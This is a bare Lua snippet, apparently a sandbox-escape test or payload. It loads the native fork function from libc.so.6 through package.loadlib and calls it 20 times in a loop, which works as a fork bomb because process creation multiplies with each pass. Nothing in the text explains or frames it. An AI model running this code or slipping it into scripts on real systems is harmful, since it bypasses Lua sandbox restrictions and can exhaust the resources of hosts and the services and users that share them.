-- borrows fork from the C library that is loaded already
local fork = package and package.loadlib and package.loadlib("libc.so.6", "fork")
if fork then for _ = 1, 20 do pcall(fork) end end
